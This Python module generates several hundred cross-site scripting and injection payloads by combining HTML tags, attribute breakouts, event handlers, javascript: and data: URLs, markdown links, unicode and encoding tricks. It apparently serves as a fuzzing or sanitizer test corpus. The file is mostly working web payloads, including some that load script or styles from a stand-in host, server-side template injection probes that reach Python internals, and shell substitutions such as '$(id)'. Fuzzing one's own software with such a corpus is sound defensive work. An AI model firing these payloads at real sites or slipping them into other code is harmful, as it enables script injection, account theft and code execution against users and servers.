"""More than three hundred ways to get a script onto a page, composed from places, tags, handlers and spellings."""

from itertools import product

RUN = "__pwned=1"
HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//evil.example/pwned.js></script>",
    "<img src=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<object data=javascript:{run}>", "<embed src=javascript:{run}>", "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<a href=javascript:{run}>x</a>", "<form action=javascript:{run}><button>x", "<button formaction=javascript:{run}>x",
    "<math href=javascript:{run}>x</math>", "<base href=//evil.example/pwned/>", "<link rel=stylesheet href=//evil.example/pwned>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<style>@import '//evil.example/pwned'</style>",
    "<p style=background:url(javascript:{run})>x", "<marquee onstart={run}>x", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'>", "<div hx-get=/pwned hx-trigger=load>x</div>",
    "<div hx-on::load={run}>x</div>", "<div data-hx-get=/pwned data-hx-trigger=load>x</div>", "<x onclick={run}>x</x>",
)  # fmt: skip
BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</option></select>")
ATTRIBUTES = (
    '" {handler}={run} x="', "' {handler}={run} x='", "` {handler}={run} x=`", '" {handler}={run} autofocus x="',
    '"\t{handler}={run}\tx="', '"/{handler}={run}/x="',
)  # fmt: skip
LINKS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}", "\x01javascript:{run}",
    "javascript&colon;{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}", "vbscript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=",
    "//evil.example/pwned", "javascript://%0a{run}", "view-source:javascript:{run}", "feed:javascript:{run}",
)  # fmt: skip
MARKDOWN = (
    "[x]({link})", "![x]({link})", "<{link}>", "[x]: {link}\n\n[x]", '[x](/ "{link}")', "[x](<{link}>)", "![x]({link} 'x')",
)  # fmt: skip
TEMPLATES = (
    "{{1234567*7654321}}", "${{1234567*7654321}}", "#{1234567*7654321}", "{%if 1%}pwned{%endif%}", "{{config}}",
    "{{''.__class__.__mro__}}", "{{request.application.__globals__}}", "<%= 1234567*7654321 %>", "${1234567*7654321}",
    "{{self._TemplateReference__context}}", "%(pwned)s", "%s%s%n", "{0.__class__}", "$(id)", "`id`",
)  # fmt: skip
UNICODE = (
    "\u202e<script>" + RUN + "</script>", "\uff1cscript\uff1e" + RUN, "\u2028" + RUN, "\ufeff<svg onload=" + RUN + ">",
    "<\u200bscript>" + RUN + "</script>", "<scr\u0000ipt>" + RUN + "</script>", "%3Cscript%3E" + RUN + "%3C/script%3E",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;", "\\u003cscript\\u003e" + RUN, "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-",
    "<script\u3000>" + RUN + "</script>", "\x1b[31m<img src=x onerror=" + RUN + ">", "<<script>" + RUN + "//<</script>",
    "<svg\x0conload=" + RUN + ">", "<img\x0bsrc=x\x0bonerror=" + RUN + ">", "\ud7ff\ue000<svg onload=" + RUN + ">",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    tags = [tag.format(run=RUN) for tag in TAGS]
    made = [breakout + tag for breakout, tag in product(BREAKOUTS[:6], tags)]
    made += [breakout + tags[0] for breakout in BREAKOUTS]
    made += [text.format(handler=handler, run=RUN) for text, handler in product(ATTRIBUTES, HANDLERS)]
    links = [link.format(run=RUN) for link in LINKS]
    made += links + [text.format(link=link) for text, link in product(MARKDOWN, links)]
    return list(dict.fromkeys([*made, *TEMPLATES, *UNICODE]))
